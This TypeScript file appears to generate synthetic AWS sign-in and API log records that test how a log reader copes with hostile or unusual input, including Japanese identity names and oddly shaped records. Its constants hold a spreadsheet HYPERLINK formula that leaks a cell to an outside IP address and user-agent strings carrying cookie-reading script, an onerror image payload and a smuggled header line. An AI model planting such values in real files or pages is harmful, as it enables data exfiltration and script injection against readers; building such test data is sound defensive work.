import { recordOf, type Session } from '../call.ts';
import { describeInstances } from '../calls/ec2.ts';
import { getUser } from '../calls/iam.ts';
import { assumeWithSaml } from '../calls/sts.ts';
import {
  AGENTS,
  BROWSERS,
  GUESSER_ADDRESS,
  OFFICES,
  PRODUCTION,
  STAGING,
  TOKYO,
  VIRGINIA,
} from '../company.ts';
import { accessKeyId, type IamUser, iamUser, roleIdentity, samlIdentity, userIdentity } from '../identity.ts';
import { unusualForms } from '../oddities.ts';
import { type Occurrence, occurrence } from '../record.ts';
import { failedUserLogin, identityCenterLogin, unknownUserLogin } from '../sign-ins.ts';
import { callsOf, instantOf, type Stage, signedIn, visitFrom } from './stage.ts';

/** Cells that run in a spreadsheet, markup that runs in a page, and names that ASCII cannot hold. */
const FORMULA = '=HYPERLINK("http://198.51.100.66/?leak="&A1,"open")';
const MARKUP =
  'curl/8.5.0 "quoted", <script>alert(document.cookie)</script>\nX-Second-Line: 1,2,3\t<img src=x onerror=alert(1)>';

/** What strangers choose to write into the logs. IAM refuses most of these names, but a reader must not count on it. */
export function hostileContent(stage: Stage): Occurrence[] {
  const formula = visitFrom(stage, '19:05:11', VIRGINIA, { address: GUESSER_ADDRESS }, FORMULA);
  const markup = { ...formula, at: formula.at + 33, browser: MARKUP };
  const plus = iamUser(stage.random, STAGING, '+1-555-0100@example.com');
  return [
    signedIn(formula, unknownUserLogin(formula, PRODUCTION)),
    signedIn(markup, failedUserLogin(markup, plus, false)),
    ...lookup(stage, iamUser(stage.random, STAGING, FORMULA), '19:12:40'),
    ...lookup(stage, iamUser(stage.random, STAGING, '=1+1@example.com'), '19:12:50'),
    ...japaneseNames(stage),
    ...unlikelyTypes(stage),
  ];
}

function lookup(stage: Stage, user: IamUser, clock: string, sourceIPAddress = GUESSER_ADDRESS): Occurrence[] {
  const identity = userIdentity(user, accessKeyId(stage.random, 'AKIA'));
  const session: Session = {
    account: user.account,
    identity,
    sourceIPAddress,
    userAgent: MARKUP,
    channel: 'sdk',
  };
  return callsOf(stage, session, TOKYO, clock, [getUser], true);
}

function japaneseNames(stage: Stage): Occurrence[] {
  const { engineers, administrators } = stage.cast;
  const visit = visitFrom(stage, '07:31:00', TOKYO, OFFICES.tokyo);
  const identity = samlIdentity(PRODUCTION, '田中 花子');
  const session: Session = {
    account: PRODUCTION,
    identity,
    sourceIPAddress: visit.address,
    userAgent: `${BROWSERS[1]}`,
    channel: 'sdk',
  };
  const worker = {
    ...session,
    identity: roleIdentity(engineers, '田中花子', accessKeyId(stage.random, 'ASIA'), visit.at),
  };
  return [
    ...callsOf(stage, session, TOKYO, '07:31:00', [assumeWithSaml]),
    ...callsOf(stage, worker, TOKYO, '07:32:00', [describeInstances]),
    ...lookup(stage, iamUser(stage.random, STAGING, '田中太郎'), '07:33:00', visit.address),
    signedIn(visit, identityCenterLogin(visit, administrators, '田中花子@example.com')),
  ];
}

function unlikelyTypes(stage: Stage): Occurrence[] {
  const { tanaka } = stage.cast.users;
  const identity = userIdentity(tanaka, accessKeyId(stage.random, 'AKIA'));
  const address = OFFICES.tokyo.address;
  const session: Session = {
    account: tanaka.account,
    identity,
    sourceIPAddress: address,
    userAgent: AGENTS.cli,
    channel: 'sdk',
  };
  const at = instantOf(stage, '04:44:00');
  return unusualForms.map((twist) => {
    const record = recordOf(describeInstances, { random: stage.random, session, region: TOKYO, at }, false);
    return occurrence(at, twist(record));
  });
}
